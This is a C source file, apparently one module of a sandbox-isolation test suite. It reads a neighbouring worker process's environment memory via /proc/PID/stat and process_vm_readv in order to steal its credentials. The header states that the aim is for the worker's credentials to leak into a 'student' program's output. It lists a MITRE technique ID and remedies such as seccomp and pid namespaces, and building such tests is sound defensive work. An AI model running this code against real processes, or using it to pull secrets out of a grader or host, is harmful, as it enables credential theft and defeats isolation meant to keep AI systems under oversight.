// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, without opening its environ.
 * Means: /proc/PID/stat tells a reader who may trace the process where its environment lies
 *        (fields 50 and 51, env_start and env_end); process_vm_readv(2) copies it from there.
 */
#include "attacks/proc-read/neighbours.h"

#include <stdio.h>
#include <sys/uio.h>

/* Where PID's environment lies. Field 2, the name, may hold blanks: count from its last ')'. */
static bool locate(pid_t pid, unsigned long *from, unsigned long *to)
{
	char path[64], line[2048], *at;
	FILE *stat;
	size_t n;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	stat = fopen(path, "re");
	if (!stat)
		return false;
	n = fread(line, 1, sizeof(line) - 1, stat);
	fclose(stat);
	line[n] = '\0';
	at = strrchr(line, ')');
	for (int field = 2; at && field < 50; field++)
		at = strchr(at + 1, ' ');
	return at && sscanf(at, "%lu %lu", from, to) == 2 && *to > *from;
}

static bool rob(pid_t pid)
{
	unsigned long from, to;
	char block[32768];
	ssize_t n;

	errno = EACCES; /* a reader who may not trace sees zeros */
	if (!locate(pid, &from, &to))
		return false;
	if (to - from > sizeof(block))
		to = from + sizeof(block);

	struct iovec here = { block, to - from }, there = { (void *)from, to - from };

	n = process_vm_readv(pid, &here, 1, &there, 1, 0);
	return n > 0 && loot_credential(block, (size_t)n);
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("process_vm_readv");
}

const struct attack attack = {
	.effect = "the worker's credentials leave in the student's output",
	.means = "process_vm_readv(2) from env_start to env_end of the worker, see its stat",
	.oracle = "secret:environ",
	.id = "ENV-03",
	.attack_id = "T1003.007, CWE-214",
	.remedy = "a worker that is not dumpable, or holds no secrets; seccomp; a pid namespace",
	.refs = (const char *const[]){ "process_vm_readv(2)", "proc(5)", NULL },
	.run = run,
};
